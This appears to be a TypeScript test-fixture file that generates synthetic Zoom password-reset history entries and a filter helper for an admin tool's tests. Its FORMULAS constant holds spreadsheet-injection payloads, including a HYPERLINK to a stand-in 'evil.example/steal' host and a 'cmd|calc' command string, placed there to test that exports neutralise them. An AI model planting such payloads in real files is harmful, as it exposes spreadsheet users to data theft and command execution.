import { randomUUID } from 'node:crypto';
import {
  DEFAULT_ACCOUNT,
  type HistoryEntry,
  type HistoryEntryInput,
  type HistoryFilter,
} from '../../shared/domain/history';
import type { Outcome } from '../../shared/domain/outcome';

const ANSWERS: Readonly<Record<Outcome, Pick<HistoryEntry, 'httpStatus' | 'zoomCode' | 'message' | 'zoomMessage'>>> = {
  updated: { httpStatus: 204, zoomCode: null, message: 'Password updated. Zoom e-mails the user.', zoomMessage: null },
  rejected: {
    httpStatus: 400,
    zoomCode: 1129,
    message: 'Zoom refused the password: it was used recently. Choose one the user has not had before.',
    zoomMessage: 'Password has been used recently.',
  },
  not_found: {
    httpStatus: 404,
    zoomCode: 1001,
    message: 'Zoom has no user with that ID or e-mail address.',
    zoomMessage: 'User does not exist.',
  },
  unauthorized: {
    httpStatus: 401,
    zoomCode: 124,
    message: 'Zoom refused the access token: it is invalid or expired.',
    zoomMessage: 'Invalid access token.',
  },
  rate_limited: {
    httpStatus: 429,
    zoomCode: 429,
    message: 'Zoom is rate limiting this account.',
    zoomMessage: 'You have reached the maximum per-second rate limit for this API.',
  },
  failed: { httpStatus: 503, zoomCode: null, message: 'Zoom answered with a server error.', zoomMessage: null },
  unknown: {
    httpStatus: null,
    zoomCode: null,
    message: 'The connection was lost after the request was sent.',
    zoomMessage: null,
  },
};

/**
 * History entries as earlier sessions (or zpa) would have written them, one minute apart, oldest first:
 * append them in this order and the newest is the last one.
 */
export function historyEntries(
  specs: readonly { user: string; outcome: Outcome }[],
  start = Date.parse('2026-11-20T09:00:00.000Z'),
): HistoryEntry[] {
  return specs.map((spec, i) => ({
    id: randomUUID(),
    at: new Date(start + i * 60_000).toISOString(),
    user: spec.user,
    outcome: spec.outcome,
    ...ANSWERS[spec.outcome],
    trackingId: spec.outcome === 'unknown' ? null : `v=2.0;clid=sim1;rid=SEED_${String(i).padStart(6, '0')}`,
    durationMs: 180 + ((i * 37) % 400),
    apiBase: 'https://api.zoom.us/v2',
    source: i % 3 === 0 ? 'zpa' : 'app',
    retryAfterSeconds: spec.outcome === 'rate_limited' ? 30 : null,
  }));
}

const FIRST = ['olivia', 'priya', 'tom', 'aisha', 'marcus', 'jane', 'li', 'sofia', 'mateo', 'noah'];
const LAST = ['hart', 'patel', 'becker', 'khan', 'reed', 'doe', 'wei', 'rossi', 'garcia', 'smith'];
const capital = (s: string) => `${s.charAt(0).toUpperCase()}${s.slice(1)}`;

/** Outcomes in the proportions a busy admin's history might have. */
function outcomeOf(i: number): Outcome {
  const r = (i * 7919) % 100;
  if (r < 62) return 'updated';
  if (r < 77) return 'rejected';
  if (r < 85) return 'not_found';
  if (r < 90) return 'rate_limited';
  if (r < 94) return 'unauthorized';
  if (r < 97) return 'failed';
  return 'unknown';
}

/** Cells a spreadsheet would run as formulas: the export must neutralise them. */
export const FORMULAS = {
  reason: '=HYPERLINK("http://evil.example/steal","Open ticket")',
  userName: '+SUM(1,2)',
  zoomMessage: '-2+3 cmd|calc',
  message: '@SUM(A1:A9) is not a message',
} as const;

/**
 * A long, varied history for the review screen, oldest first, spread evenly over `spanDays` days up to
 * `end`: 100 people (most with a known name), three accounts (most entries with none: "Default"), every
 * outcome, ticket numbers as reasons on a quarter of the entries, and a few entries whose texts would be
 * formulas in a spreadsheet. Deterministic, so tests can count what each filter must find.
 */
export function reviewHistory(count: number, end: number, spanDays = 400): HistoryEntryInput[] {
  const step = Math.floor((spanDays * 86_400_000) / count);
  return Array.from({ length: count }, (_, i) => {
    const first = FIRST[i % FIRST.length] ?? 'ana';
    const last = LAST[Math.floor(i / FIRST.length) % LAST.length] ?? 'lee';
    const outcome = outcomeOf(i);
    const formula = i === count - 5 || i === Math.floor(count / 2);
    return {
      id: `rev-${String(i).padStart(6, '0')}`,
      at: new Date(end - (count - 1 - i) * step).toISOString(),
      user: `${first}.${last}@northwind.example`,
      outcome,
      ...ANSWERS[outcome],
      ...(formula ? { message: FORMULAS.message, zoomMessage: FORMULAS.zoomMessage } : {}),
      trackingId:
        outcome === 'unknown' ? null : `v=2.0;clid=us06;rid=${(i * 2654435761).toString(16).slice(-10).toUpperCase()}`,
      durationMs: 120 + ((i * 37) % 900),
      apiBase: 'https://api.zoom.us/v2',
      source: i % 3 === 0 ? 'zpa' : 'app',
      retryAfterSeconds: outcome === 'rate_limited' ? 30 : null,
      ...(i % 10 === 0 ? { account: 'emea' } : i % 25 === 1 ? { account: 'apac' } : {}),
      ...(formula
        ? { userName: FORMULAS.userName }
        : i % 5 < 3
          ? { userName: `${capital(first)} ${capital(last)}` }
          : {}),
      ...(formula ? { reason: FORMULAS.reason } : i % 4 === 0 ? { reason: `INC-${10_000 + (i % 9000)}` } : {}),
    } satisfies HistoryEntryInput;
  });
}

/** What the store's filter keeps, restated independently so a test can count the expected matches. */
export function matchesFilter(e: HistoryEntryInput, f: HistoryFilter): boolean {
  const has = (value: string | number | null | undefined, needle: string) =>
    value !== null && value !== undefined && String(value).toLowerCase().includes(needle.toLowerCase());
  if (f.user !== undefined && !has(e.user, f.user)) return false;
  if (f.outcome !== undefined && e.outcome !== f.outcome) return false;
  if (f.account !== undefined && (e.account ?? DEFAULT_ACCOUNT).toLowerCase() !== f.account.toLowerCase()) return false;
  if (f.since !== undefined && Date.parse(e.at) < Date.parse(f.since)) return false;
  if (f.until !== undefined && Date.parse(e.at) >= Date.parse(f.until)) return false;
  if (f.search !== undefined) {
    const fields = [e.user, e.userName, e.message, e.zoomMessage, e.trackingId, e.zoomCode, e.reason];
    if (!fields.some((value) => has(value, f.search as string))) return false;
  }
  return true;
}
